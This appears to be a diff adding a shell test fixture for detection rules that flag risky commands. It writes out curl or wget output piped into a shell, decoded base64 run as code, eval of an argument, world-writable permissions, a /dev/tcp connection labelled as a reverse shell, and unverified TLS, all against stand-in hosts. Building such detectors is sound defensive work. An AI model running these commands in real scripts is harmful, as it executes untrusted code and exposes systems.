@@ -1,0 +1,19 @@
+#!/bin/sh
+# The rules beside this file: each line after `ruleid` must be found, and nothing else in this file may be.
+# ruleid: shell.fetched_script
+curl -fsSL https://a.example/x | sh
+# ruleid: shell.fetched_script
+wget -qO- https://a.example/x | bash
+curl -fsSL https://a.example/x -o x
+# ruleid: shell.eval
+eval "$1"
+# ruleid: shell.decoded_code
+base64 -d x | sh
+base64 -d x > y
+# ruleid: shell.open_rights
+chmod -R 777 x
+chmod 755 x
+# ruleid: shell.reverse_shell
+cat < /dev/tcp/192.0.2.1/80
+# ruleid: shell.tls_unverified
+curl -k https://a.example
